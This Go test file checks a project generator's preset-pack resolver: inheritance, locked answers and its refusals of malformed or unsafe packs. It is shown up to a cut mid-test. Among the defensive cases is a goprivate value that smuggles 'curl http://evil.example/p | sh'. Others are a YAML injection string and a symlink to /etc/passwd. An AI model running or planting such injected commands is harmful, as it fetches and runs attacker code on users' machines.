package preset

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/mod/module"
	modzip "golang.org/x/mod/zip"

	"github.com/gonew-prod/gonew-prod/generator"
	"github.com/gonew-prod/gonew-prod/internal/answers"
)

// writeTree writes files (path -> content) below dir.
func writeTree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for p, body := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

const orgPack = `name: acme
description: Acme services
extends: default
answers:
  ci: gitlab
  framework: echo
locked: [ci, module_prefix]
module_prefix: github.com/acme
goprivate: github.com/acme/*
remove: [k8s/service.yaml]
`

func TestBuiltins(t *testing.T) {
	names, err := BuiltinNames()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(names, "default") || !slices.Contains(names, "minimal") {
		t.Fatalf("built-in presets %v, want default and minimal", names)
	}
	for _, name := range names {
		p, err := Builtin(name)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if p.Description == "" || p.Source != "builtin" {
			t.Errorf("%s: description %q source %q", name, p.Description, p.Source)
		}
	}
	minimal, _ := Builtin("minimal")
	a, _, err := answers.Resolve(minimal.Answers, moduleLayer("example.com/x/y"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"otel", "mtls", "pprof", "k8s"} {
		if a.Has(f) {
			t.Errorf("minimal preset has %s", f)
		}
	}
	if _, err := Builtin("nope"); err == nil || !strings.Contains(err.Error(), "built-in presets are") {
		t.Errorf("unknown built-in: %v", err)
	}
}

func moduleLayer(mod string) answers.Layer {
	l := answers.Layer{Source: answers.FromFlag}
	l.Set(answers.KeyModule, mod, "--module")
	return l
}

func TestDirectoryPack(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"team/acme/preset.yaml":             "" + orgPack,
		"team/acme/overlay/Dockerfile.tmpl": "FROM registry.acme.example/golang:{{.GoVersion}} AS build\n",
		"team/acme/overlay/CODEOWNERS.tmpl": "* @acme/{{.Name}}\n",
		"team/preset.yaml":                  "name: team\nextends: ./acme\nanswers:\n  http_port: 9090\n",
		"team/overlay/CODEOWNERS.tmpl":      "* @acme/team\n",
		"team/overlay/docs/runbook.md.tmpl": "# {{.Name}}\n",
	})
	r := Resolver{Dir: dir}
	p, err := r.Resolve(context.Background(), "./team")
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(p.Chain, ","); got != "default,acme,team" {
		t.Errorf("chain %s", got)
	}
	if !p.ModulePrefixLocked || p.ModulePrefix != "github.com/acme" || p.GoPrivate != "github.com/acme/*" {
		t.Errorf("prefix %q locked %v goprivate %q", p.ModulePrefix, p.ModulePrefixLocked, p.GoPrivate)
	}
	if got := strings.Join(p.OverlayFiles(), ","); got != "CODEOWNERS.tmpl,Dockerfile.tmpl,docs/runbook.md.tmpl" {
		t.Errorf("overlay %s", got)
	}
	if got := string(p.Overlay["CODEOWNERS.tmpl"].Data); got != "* @acme/team\n" {
		t.Errorf("child overlay did not win: %q", got)
	}
	if !slices.Equal(p.Remove, []string{"k8s/service.yaml"}) || !slices.Equal(p.Answers.Locked, []string{"ci"}) {
		t.Errorf("remove %v locked %v", p.Remove, p.Answers.Locked)
	}
	a, origins, err := answers.Resolve(p.Answers, moduleLayer("github.com/acme/orders"))
	if err != nil {
		t.Fatal(err)
	}
	if a.CI != "gitlab" || a.Framework != "echo" || a.HTTPPort != 9090 || origins[answers.KeyCI] != answers.FromLocked {
		t.Errorf("answers %+v origins %v", a, origins)
	}

	// A flag contradicting the locked key is refused, naming the preset that locks it
	// (acme, which team extends).
	flags := moduleLayer("github.com/acme/orders")
	flags.Set(answers.KeyCI, "github", "--ci")
	if _, _, err := answers.Resolve(p.Answers, flags); err == nil || !strings.Contains(err.Error(), "locked to gitlab by preset acme (") {
		t.Errorf("contradicting a lock: %v", err)
	}
	if err := p.CheckModule("example.com/x"); err == nil || !strings.Contains(err.Error(), "github.com/acme/") {
		t.Errorf("module outside the locked prefix: %v", err)
	}
	if err := p.CheckModule("github.com/acme/x"); err != nil {
		t.Errorf("module inside the prefix: %v", err)
	}
}

func TestPackRefusals(t *testing.T) {
	tests := []struct {
		name  string
		files map[string]string
		setup func(t *testing.T, dir string)
		want  string
	}{
		{name: "unknown key", files: map[string]string{"p/preset.yaml": "name: p\ncolour: red\n"}, want: "p/preset.yaml:2:1: unknown key \"colour\""},
		{name: "unknown answers key", files: map[string]string{"p/preset.yaml": "name: p\nanswers:\n  colour: red\n"}, want: "p/preset.yaml:3:3: unknown key \"colour\""},
		{name: "second document", files: map[string]string{"p/preset.yaml": "name: p\n---\nlocked: [colour]\n"}, want: "p/preset.yaml:2:1: only one YAML document is allowed"},
		{name: "wrong type", files: map[string]string{"p/preset.yaml": "name: p\nlocked: ci\n"}, want: "p/preset.yaml:2:9: locked must be a list"},
		{name: "bad answer value", files: map[string]string{"p/preset.yaml": "name: p\nanswers:\n  framework: flask\n"}, want: "p/preset.yaml:3:14"},
		{name: "locked unknown key", files: map[string]string{"p/preset.yaml": "name: p\nlocked: [colour]\n"}, want: "p/preset.yaml:2:10: locked: unknown key"},
		{name: "locked without value", files: map[string]string{"p/preset.yaml": "name: p\nlocked: [framework]\n"}, want: "p/preset.yaml:2:10: locked key framework has no value in answers; give it one under answers (answers: {framework: ...}) or remove it from locked"},
		{name: "second locked key without value", files: map[string]string{"p/preset.yaml": "name: p\nanswers:\n  ci: gitlab\nlocked:\n  - ci\n  - framework\n"}, want: "p/preset.yaml:6:5: locked key framework has no value"},
		{name: "locked without value over a parent", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./q\nlocked: [ci, go]\n", "p/q/preset.yaml": "name: q\nanswers:\n  ci: gitlab\n"}, want: "p/preset.yaml:3:14: locked key go has no value"},
		{name: "locked module_prefix without a prefix", files: map[string]string{"p/preset.yaml": "name: p\nlocked:\n  - ci\n  - module_prefix\nanswers:\n  ci: gitlab\n"}, want: "p/preset.yaml:4:5: module_prefix is locked but not set; set it (module_prefix: example.com/team) or remove it from locked"},
		{name: "the ci feature without a provider", files: map[string]string{"p/preset.yaml": "name: p\nanswers:\n  features: [ci]\n  ci: none\n"},
			want: "p/preset.yaml:3:13: features lists ci, but ci is none (p/preset.yaml:4:7): the ci feature needs a provider"},
		{name: "the ci feature over a parent without a provider", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./q\nanswers:\n  features: [ci, docker]\n", "p/q/preset.yaml": "name: q\nanswers:\n  ci: none\n"},
			want: "features lists ci, but ci is none (p/q/preset.yaml:3:7)"},
		{name: "missing name", files: map[string]string{"p/preset.yaml": "description: x\n"}, want: "name is required"},
		{name: "escaping overlay", files: map[string]string{"p/preset.yaml": "name: p\noverlay: ../elsewhere\n"}, want: `p/preset.yaml:2:10: overlay "../elsewhere" leads out of the pack`},
		{name: "absolute overlay", files: map[string]string{"p/preset.yaml": "name: p\noverlay: /etc\n"}, want: `p/preset.yaml:2:10: overlay "/etc" is an absolute path`},
		{name: "overlay naming the pack's own directory", files: map[string]string{"p/preset.yaml": "name: p\noverlay: ./\n"}, want: `p/preset.yaml:2:10: overlay "./" is the pack's own directory`},
		{name: "missing overlay directory", files: map[string]string{"p/preset.yaml": "name: p\noverlay: templates\n"}, want: "p/preset.yaml:2:10: overlay directory templates: no such file or directory"},
		{name: "overlay naming a file", files: map[string]string{"p/preset.yaml": "name: p\noverlay: templates\n", "p/templates": "x\n"}, want: "p/preset.yaml:2:10: overlay templates is not a directory"},
		{name: "escaping remove", files: map[string]string{"p/preset.yaml": "name: p\nremove: [../x]\n"}, want: "p/preset.yaml:2:10: remove"},
		{name: "extends cycle", files: map[string]string{
			"p/preset.yaml": "name: p\nextends: ./q\n", "p/q/preset.yaml": "name: q\nextends: ..\n",
		}, want: "p/q/preset.yaml:2:10: extends cycle: p/preset.yaml:2:10 (extends: ./q) -> p/q/preset.yaml:2:10 (extends: ..) -> p/preset.yaml again; remove one of these extends"},
		{name: "extends cycle below the first pack", files: map[string]string{
			"p/preset.yaml": "name: p\nextends: ./q\n", "p/q/preset.yaml": "name: q\n\nextends: ./r\n", "p/q/r/preset.yaml": "name: r\nextends: ..\n",
		}, want: "p/q/r/preset.yaml:2:10: extends cycle: p/q/preset.yaml:3:10 (extends: ./r) -> p/q/r/preset.yaml:2:10 (extends: ..) -> p/q/preset.yaml again;"},
		{name: "a pack extending itself", files: map[string]string{"p/preset.yaml": "name: p\nextends: .\n"},
			want: "p/preset.yaml:2:10: extends cycle: p/preset.yaml:2:10 (extends: .) -> p/preset.yaml again;"},
		{name: "extends a built-in in the wrong case", files: map[string]string{"p/preset.yaml": "name: p\nextends: Default\n"}, want: `p/preset.yaml:2:10: extends "Default": no directory Default in the pack, and no built-in preset of that name: built-in presets are `},
		{name: "extends a bare name that is no built-in's", files: map[string]string{"p/preset.yaml": "name: p\nextends: base\n"},
			want: `p/preset.yaml:2:10: extends "base": unknown preset "base": built-in presets are default, minimal; a directory needs a path relative to this pack, such as ./base below it; a pack beside it (../base) can be extended only inside a checkout`},
		{name: "extends a missing pack", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./missing\n"}, want: `p/preset.yaml:2:10: extends "./missing"`},
		{name: "extends leaving the pack", files: map[string]string{
			"p/preset.yaml": "name: p\nextends: ../q\n", "q/preset.yaml": "name: q\n",
		}, want: `p/preset.yaml:2:10: extends "../q": must be a built-in name or a relative path that stays inside the pack's tree`},
		{name: "absolute extends", files: map[string]string{"p/preset.yaml": "name: p\nextends: /etc\n"}, want: "stays inside the pack's tree"},
		{name: "extends through a symlink", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./q\n", "elsewhere/preset.yaml": "name: q\n"}, setup: func(t *testing.T, dir string) {
			if err := os.Symlink(filepath.Join(dir, "elsewhere"), filepath.Join(dir, "p/q")); err != nil {
				t.Fatal(err)
			}
		}, want: "symbolic links are not allowed"},
		{name: "symlinked overlay directory", files: map[string]string{"p/preset.yaml": "name: p\n", "elsewhere/README.md.tmpl": "x\n"}, setup: func(t *testing.T, dir string) {
			if err := os.Symlink(filepath.Join(dir, "elsewhere"), filepath.Join(dir, "p/overlay")); err != nil {
				t.Fatal(err)
			}
		}, want: "p/overlay: symbolic links are not allowed in a pack"},
		{name: "overlay producing the record", files: map[string]string{"p/preset.yaml": "name: p\n", "p/overlay/.gonew-prod.yaml.tmpl": "x\n"}, want: ".gonew-prod.yaml is the project's record"},
		{name: "executable naming no overlay template", files: map[string]string{"p/preset.yaml": "name: p\nexecutable:\n  - scripts/deploy.sh.tmpl\n"},
			want: "p/preset.yaml:3:5: executable: scripts/deploy.sh.tmpl is not a template of the overlay or of a pack this one extends"},
		{name: "executable naming an output path", files: map[string]string{"p/preset.yaml": "name: p\nexecutable: [scripts/deploy.sh]\n", "p/overlay/scripts/deploy.sh.tmpl": "#!/bin/sh\n"},
			want: `p/preset.yaml:2:14: executable: "scripts/deploy.sh": want an overlay template's name`},
		{name: "executable escaping the overlay", files: map[string]string{"p/preset.yaml": "name: p\nexecutable: [../x.tmpl]\n"}, want: `p/preset.yaml:2:14: executable: "../x.tmpl"`},
		{name: "remove naming a directory with a slash", files: map[string]string{"p/preset.yaml": "name: p\nremove: [\"k8s/\"]\n"},
			want: `p/preset.yaml:2:10: remove: "k8s/" is a directory; remove takes the paths of built-in files, one entry each: remove: [k8s/deployment.yaml, k8s/service.yaml]`},
		{name: "remove naming a directory", files: map[string]string{"p/preset.yaml": "name: p\nremove: [k8s]\n"},
			want: `p/preset.yaml:2:10: remove: "k8s" is a directory; remove takes the paths of built-in files, one entry each: remove: [k8s/deployment.yaml, k8s/service.yaml]`},
		{name: "remove naming a path with a slash", files: map[string]string{"p/preset.yaml": "name: p\nremove: [docs/]\n"},
			want: `p/preset.yaml:2:10: remove: "docs/" ends in /, and no built-in file is below docs; remove takes the paths of built-in files, spelled as in manifest.yaml without a trailing / (k8s/service.yaml)`},
		{name: "a feature given twice", files: map[string]string{"p/preset.yaml": "name: p\nanswers:\n  features: [otel, k8s, otel]\n"},
			want: "p/preset.yaml:3:25: features lists otel twice (first at p/preset.yaml:3:14); list each once"},
		{name: "a feature given twice, one through an alias", files: map[string]string{"p/preset.yaml": "name: p\ndescription: &f otel\nanswers:\n  features:\n    - *f\n    - otel\n"},
			want: "p/preset.yaml:6:7: features lists otel twice (first at p/preset.yaml:5:7); list each once"},
		{name: "a locked key given twice", files: map[string]string{"p/preset.yaml": "name: p\nlocked: [ci, features, ci]\n"},
			want: "p/preset.yaml:2:24: locked lists ci twice (first at p/preset.yaml:2:10); list each once"},
		{name: "a removed path given twice", files: map[string]string{"p/preset.yaml": "name: p\nremove:\n  - k8s/service.yaml\n  - k8s/service.yaml\n"},
			want: "p/preset.yaml:4:5: remove lists k8s/service.yaml twice (first at p/preset.yaml:3:5); list each once"},
		{name: "an executable template given twice", files: map[string]string{"p/preset.yaml": "name: p\nexecutable: [run.sh.tmpl, run.sh.tmpl]\n", "p/overlay/run.sh.tmpl": "#!/bin/sh\n"},
			want: "p/preset.yaml:2:27: executable lists run.sh.tmpl twice (first at p/preset.yaml:2:14); list each once"},
		{name: "remove naming no built-in file", files: map[string]string{"p/preset.yaml": "name: p\nremove: [cmd/orders/main.go]\n"}, want: "p/preset.yaml:2:10: remove cmd/orders/main.go: no built-in file has that path"},
		{name: "remove naming a file of an extended pack's overlay", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./base\nremove: [CODEOWNERS]\n", "p/base/preset.yaml": "name: base\n", "p/base/overlay/CODEOWNERS.tmpl": "* @acme/platform\n"},
			want: "p/preset.yaml:3:10: remove CODEOWNERS: no built-in file has that path; the file comes from the overlay of a pack this one extends (p/base/overlay/CODEOWNERS.tmpl), which remove does not take: to leave it out, give this pack's overlay a CODEOWNERS.tmpl whose output is only white space"},
		{name: "goprivate injection", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: \"x/*\\\"\\n  EVIL: \\\"injected\"\n"}, want: "p/preset.yaml:2:12: goprivate"},
		{name: "goprivate shell", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: 'x.example/*; curl http://evil.example/p | sh'\n"}, want: "goprivate: pattern"},
		{name: "leaving a locked module prefix", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/someone-else\n", "p/org/preset.yaml": orgPack},
			want: "p/preset.yaml:3:16: module_prefix github.com/someone-else: module_prefix is locked to github.com/acme by preset acme (p/org/preset.yaml:7:14), which this pack extends"},
		{name: "a locked module prefix's sibling", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nanswers:\n  ci: gitlab\nmodule_prefix: github.com/acme-evil\n", "p/org/preset.yaml": orgPack},
			want: "p/preset.yaml:5:16: module_prefix github.com/acme-evil: module_prefix is locked to github.com/acme by preset acme"},
		{name: "goprivate empty element", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: a.example/*,,b.example\n"}, want: "empty pattern"},
		{name: "goprivate bad glob", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: a.example/[x\n"}, want: "syntax error in pattern"},
		{name: "name with control characters", files: map[string]string{"p/preset.yaml": "name: \"p\\e[31m\"\n"}, want: "p/preset.yaml:1:7: name"},
		{name: "locked set restated in another order is fine, changed is not", files: map[string]string{
			"p/preset.yaml": "name: p\nextends: ./q\nanswers:\n  features: [otel, docker]\n", "p/q/preset.yaml": "name: q\nanswers:\n  features: [otel, mtls]\nlocked: [features]\n",
		}, want: "features is locked by preset q"},
		{name: "template parse error", files: map[string]string{
			"p/preset.yaml": "name: p\n", "p/overlay/README.md.tmpl": "line one\n{{if .Name}\n",
		}, want: "p/overlay/README.md.tmpl:2:"},
		{name: "overlay file without .tmpl", files: map[string]string{
			"p/preset.yaml": "name: p\n", "p/overlay/README.md": "x\n",
		}, want: "p/overlay/README.md: overlay templates are named like the built-in ones"},
		{name: "oversized file", files: map[string]string{
			"p/preset.yaml": "name: p\n", "p/overlay/big.tmpl": strings.Repeat("x", MaxFileSize+1),
		}, want: "p/overlay/big.tmpl: larger than 1048576 bytes"},
		{name: "symlinked template", files: map[string]string{"p/preset.yaml": "name: p\n", "p/overlay/a.tmpl": "a\n"}, setup: func(t *testing.T, dir string) {
			if err := os.Symlink("/etc/passwd", filepath.Join(dir, "p/overlay/passwd.tmpl")); err != nil {
				t.Fatal(err)
			}
		}, want: "p/overlay/passwd.tmpl: symbolic links are not allowed"},
		{name: "symlinked preset.yaml", files: map[string]string{"real.yaml": "name: p\n"}, setup: func(t *testing.T, dir string) {
			if err := os.MkdirAll(filepath.Join(dir, "p"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(filepath.Join(dir, "real.yaml"), filepath.Join(dir, "p/preset.yaml")); err != nil {
				t.Fatal(err)
			}
		}, want: "p/preset.yaml: symbolic links are not allowed"},
		{name: "locked by parent", files: map[string]string{
			"p/preset.yaml": "name: p\nextends: ./q\nanswers:\n  ci: github\n", "p/q/preset.yaml": "name: q\nanswers:\n  ci: gitlab\nlocked: [ci]\n",
		}, want: "ci is locked by preset q (p/q/preset.yaml:4:10)"},
		// The error names the pack whose locked locks the key, not the one this pack extends.
		{name: "locked by a grandparent", files: map[string]string{
			"p/preset.yaml": "name: p\nextends: ./q\nanswers:\n  ci: github\n", "p/q/preset.yaml": "name: q\nextends: ./r\n", "p/q/r/preset.yaml": "name: r\nanswers:\n  ci: gitlab\nlocked: [ci]\n",
		}, want: "p/preset.yaml:4:7: ci is locked by preset r (p/q/r/preset.yaml:4:10), which this pack extends"},
		{name: "a module prefix locked by a grandparent", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./q\nmodule_prefix: github.com/someone-else\n", "p/q/preset.yaml": "name: q\nextends: ./org\n", "p/q/org/preset.yaml": orgPack},
			want: "module_prefix is locked to github.com/acme by preset acme (p/q/org/preset.yaml:7:14)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, tt.files)
			if tt.setup != nil {
				tt.setup(t, dir)
			}
			_, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("err = %v, want it to contain %q", err, tt.want)
			}
		})
	}
}

// TestOverlayDirectorySpellings checks that the overlay key takes any relative path of a
// directory inside the pack, as path.Clean spells it, and names the templates by it.
func TestOverlayDirectorySpellings(t *testing.T) {
	for _, spelling := range []string{"overlay", "./overlay", "overlay/", "./overlay/", "overlay//", "tmpl/../overlay"} {
		t.Run(spelling, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, map[string]string{
				"p/preset.yaml":             "name: p\noverlay: " + spelling + "\n",
				"p/overlay/CODEOWNERS.tmpl": "* @platform\n",
			})
			p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(p.OverlayFiles(), ","); got != "CODEOWNERS.tmpl" {
				t.Errorf("overlay %s", got)
			}
			if got := p.TemplateAt("CODEOWNERS.tmpl"); got != "p/overlay/CODEOWNERS.tmpl" {
				t.Errorf("template named %s", got)
			}
		})
	}
}

// TestPackAliases: an alias (*name) as the value of a top-level key of preset.yaml, or as
// an entry of its lists, stands for the node its anchor marks, as under answers; a value
// it stands for that is wrong is refused where the alias stands (round 41 packs/2).
func TestPackAliases(t *testing.T) {
	tests := []struct {
		name, yaml string
		check      func(Pack) bool
		want       string // in the refusal; "" when the pack loads
	}{
		{name: "goprivate", yaml: "name: p\nmodule_prefix: &org gitlab.acme.example\ngoprivate: *org\n",
			check: func(p Pack) bool {
				return p.GoPrivate == "gitlab.acme.example" && p.ModulePrefix == "gitlab.acme.example"
			}},
		{name: "description", yaml: "name: &n p\ndescription: *n\n", check: func(p Pack) bool { return p.Description == "p" }},
		{name: "a list", yaml: "name: p\nexecutable: &none []\nremove: *none\n", check: func(p Pack) bool { return len(p.Remove) == 0 }},
		{name: "a list's entry", yaml: "name: p\ndescription: &f k8s/service.yaml\nremove: [*f]\n",
			check: func(p Pack) bool { return slices.Equal(p.Remove, []string{"k8s/service.yaml"}) }},
		{name: "a locked list", yaml: "name: p\nremove: &l []\nanswers:\n  ci: gitlab\nlocked: [ci]\n", check: func(p Pack) bool { return slices.Equal(p.Answers.Locked, []string{"ci"}) }},
		{name: "a mapping where a string goes", yaml: "name: p\nanswers: &a\n  ci: gitlab\ndescription: *a\n", want: "p/preset.yaml:4:14: description must be a string"},
		{name: "a bad goprivate, named where the alias stands", yaml: "name: p\ndescription: &g 'x/[a'\ngoprivate: *g\n", want: "p/preset.yaml:3:12: goprivate"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, map[string]string{"p/preset.yaml": tt.yaml})
			p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
			if tt.want != "" {
				if err == nil || !strings.Contains(err.Error(), tt.want) {
					t.Errorf("err = %v, want it to contain %q", err, tt.want)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !tt.check(p) {
				t.Errorf("the pack %+v does not hold the values the aliases stand for", p)
			}
		})
	}
}

// newProxy builds a file-based GOPROXY holding mod@version made of files, and returns the
// environment that makes `go mod download` use it with a private module cache.
func newProxy(t *testing.T, mod, version string, files map[string]string) []string {
	t.Helper()
	src := t.TempDir()
	files["go.mod"] = "module " + mod + "\n"
	writeTree(t, src, files)
	proxy := t.TempDir()
	escaped, err := module.EscapePath(mod)
	if err != nil {
		t.Fatal(err)
	}
	vdir := filepath.Join(proxy, filepath.FromSlash(escaped), "@v")
	if err := os.MkdirAll(vdir, 0o755); err != nil {
		t.Fatal(err)
	}
	zf, err := os.Create(filepath.Join(vdir, version+".zip"))
	if err != nil {
		t.Fatal(err)
	}
	if err := modzip.CreateFromDir(zf, module.Version{Path: mod, Version: version}, src); err != nil {
		t.Fatal(err)
	}
	if err := zf.Close(); err != nil {
		t.Fatal(err)
	}
	writeTree(t, vdir, map[string]string{
		version + ".mod":  files["go.mod"],
		version + ".info": `{"Version":"` + version + `","Time":"2026-01-02T03:04:05Z"}`,
		"list":            version + "\n",
	})
	return append(os.Environ(),
		"GOPROXY=file://"+filepath.ToSlash(proxy),
		"GOMODCACHE="+t.TempDir(),
		"GOFLAGS=-modcacherw",
		"GONOSUMDB="+mod,
		"GOPRIVATE=",
		"GONOPROXY=",
		"GOTOOLCHAIN=local",
	)
}

func TestModulePack(t *testing.T) {
	if testing.Short() {
		t.Skip("runs go mod download against a local proxy")
	}
	const mod = "example.com/acme/presets"
	env := newProxy(t, mod, "v1.2.0", map[string]string{
		"base/preset.yaml":               "name: base\nanswers:\n  framework: echo\n",
		"acme/preset.yaml":               orgPack + "overlay: templates\n",
		"acme/templates/CODEOWNERS.tmpl": "* @acme/{{.Name}}\n",
		"escape/preset.yaml":             "name: escape\nextends: ../../outside\n",
	})
	r := Resolver{Dir: t.TempDir(), Env: env}
	p, err := r.Resolve(context.Background(), mod+"@v1.2.0/acme")
	if err != nil {
		t.Fatal(err)
	}
	if p.Source != mod+"@v1.2.0/acme" || p.Version != "v1.2.0" || p.Name != "acme" {
		t.Errorf("source %q version %q name %q", p.Source, p.Version, p.Name)
	}
	if _, ok := p.Overlay["CODEOWNERS.tmpl"]; !ok {
		t.Errorf("overlay %v lacks CODEOWNERS.tmpl", p.OverlayFiles())
	}
	if _, err := r.Resolve(context.Background(), mod+"@v1.2.0/escape"); err == nil || !strings.Contains(err.Error(), "stays inside the pack's tree") {
		t.Errorf("escaping extends: %v", err)
	}
	var fe *FetchError
	if _, err := r.Resolve(context.Background(), mod+"@v9.9.9"); !errors.As(err, &fe) || !strings.Contains(err.Error(), "go mod download") {
		t.Errorf("missing version: %v, want a FetchError", err)
	}

	// A go.work above the directory go mod download runs in changes nothing.
	tmp := t.TempDir()
	writeTree(t, tmp, map[string]string{"go.work": "go 1.99\n\nuse ./nowhere\n"})
	t.Setenv("TMPDIR", tmp)
	if _, err := r.Resolve(context.Background(), mod+"@v1.2.0/acme"); err != nil {
		t.Errorf("with a stray go.work in TMPDIR: %v", err)
	}
	// A subdirectory is cleaned as a directory reference is: acme/ and ./acme are acme,
	// and the source recorded is the clean one; what leaves the module is still refused.
	for _, sub := range []string{"acme/", "./acme", "acme//", "base/../acme"} {
		p, err := r.Resolve(context.Background(), mod+"@v1.2.0/"+sub)
		if err != nil {
			t.Errorf("subdir %q: %v", sub, err)
			continue
		}
		if p.Source != mod+"@v1.2.0/acme" || p.Name != "acme" {
			t.Errorf("subdir %q: source %q name %q", sub, p.Source, p.Name)
		}
	}
	for _, sub := range []string{"../x", "acme/../../x", "/abs", ".."} {
		if _, err := r.Resolve(context.Background(), mod+"@v1.2.0/"+sub); err == nil || !strings.Contains(err.Error(), "inside the module") {
			t.Errorf("escaping subdir %q: %v", sub, err)
		}
	}
}

// TestLockedSetsCompareAsSets checks that a child pack restating a locked feature set
// in another order is accepted, as an answers file with the same reordering is.
func TestLockedSetsCompareAsSets(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"p/preset.yaml":   "name: p\nextends: ./q\nanswers:\n  features: [mtls, otel]\n",
		"p/q/preset.yaml": "name: q\nanswers:\n  features: [otel, mtls]\nlocked: [features]\n",
	})
	p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./p")
	if err != nil {
		t.Fatal(err)
	}
	file := answers.Layer{Source: answers.FromFile, Name: "a.yaml"}
	file.Set(answers.KeyFeatures, []string{"mtls", "otel"}, "a.yaml:1:11")
	if _, _, err := p.Resolve(file, moduleLayer("example.com/a/b")); err != nil {
		t.Errorf("answers file restating the locked set: %v", err)
	}
}

// TestBareNamesAreBuiltins checks that a directory named like a built-in preset in the
// working directory does not hijack it: a directory needs a path.
func TestBareNamesAreBuiltins(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"default/preset.yaml": "name: hijack\nanswers:\n  framework: echo\n"})
	r := Resolver{Dir: dir}
	p, err := r.Resolve(context.Background(), "default")
	if err != nil {
		t.Fatal(err)
	}
	if p.Name != "default" || p.Source != SourceBuiltin {
		t.Errorf("\"default\" resolved to %s from %s, want the built-in", p.Name, p.Source)
	}
	p, err = r.Resolve(context.Background(), "./default")
	if err != nil {
		t.Fatal(err)
	}
	if p.Name != "hijack" {
		t.Errorf("\"./default\" resolved to %s, want the directory", p.Name)
	}
}

func TestRecorded(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"packs/acme/preset.yaml": "name: acme\nmodule_prefix: github.com/acme\nlocked: [module_prefix]\n"})
	r := Resolver{Dir: dir}
	ctx := context.Background()
	tests := []struct {
		name string
		rec  generator.RecordPreset
		want string // "" when it resolves
		not  string // what the error must not say
	}{
		{"builtin", generator.RecordPreset{Name: "minimal", Source: SourceBuiltin}, "", ""},
		{"directory", generator.RecordPreset{Name: "acme", Source: "packs/acme"}, "", ""},
		{"directory elsewhere", generator.RecordPreset{Name: "acme", Source: "../elsewhere/acme"}, "pass --preset with its path", ""},
		{"renamed pack", generator.RecordPreset{Name: "other", Source: "packs/acme"}, "now holds preset acme", ""},
		{"unknown builtin", generator.RecordPreset{Name: "gone", Source: SourceBuiltin}, `the built-in preset "gone" (source: builtin), which this gonew-prod does not have: the built-in presets are default, minimal (gonew-prod presets list)`, "a directory needs a path"},
		{"no source", generator.RecordPreset{Name: "x"}, "names no preset source", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := r.Recorded(ctx, tt.rec)
			if tt.want == "" {
				if err != nil || p.Name != tt.rec.Name {
					t.Errorf("Recorded = %s, %v", p.Name, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("err = %v, want %q", err, tt.want)
			}
			if tt.not != "" && err != nil && strings.Contains(err.Error(), tt.not) {
				t.Errorf("err = %v, want none of %q", err, tt.not)
			}
		})
	}
}

// TestRecordedTakesListsOnce: a pack whose answers list a feature twice, which a project
// may have been made from before such a pack was refused, is read again for the project's
// record with the feature once (a module pack's recorded version cannot be edited); given
// now (--preset), through an extending pack too, it is refused.
func TestRecordedTakesListsOnce(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"packs/twice/preset.yaml":         "name: twice\nextends: minimal\nanswers:\n  features: [otel, otel]\nlocked: [ci, ci]\nremove: [k8s/service.yaml, k8s/service.yaml]\nexecutable: [run.sh.tmpl, run.sh.tmpl]\n",
		"packs/twice/overlay/run.sh.tmpl": "#!/bin/sh\n",
		"packs/child/preset.yaml":         "name: child\nextends: ../twice\n",
		"go.mod":                          "module example.com/packs\n",
	})
	r := Resolver{Dir: dir}
	ctx := context.Background()
	for _, name := range []string{"twice", "child"} {
		p, err := r.Recorded(ctx, generator.RecordPreset{Name: name, Source: "packs/" + name})
		if err != nil {
			t.Fatalf("Recorded(%s): %v", name, err)
		}
		if got := p.Answers.Values["features"].Raw; !slices.Equal(got.([]string), []string{"otel"}) {
			t.Errorf("Recorded(%s): features %v, want [otel]", name, got)
		}
		if !slices.Equal(p.Remove, []string{"k8s/service.yaml"}) || !slices.Contains(p.Answers.Locked, "ci") {
			t.Errorf("Recorded(%s): remove %v, locked %v, want k8s/service.yaml once and ci locked", name, p.Remove, p.Answers.Locked)
		}
		if _, err := r.Resolve(ctx, "packs/"+name); err == nil || !strings.Contains(err.Error(), "features lists otel twice") {
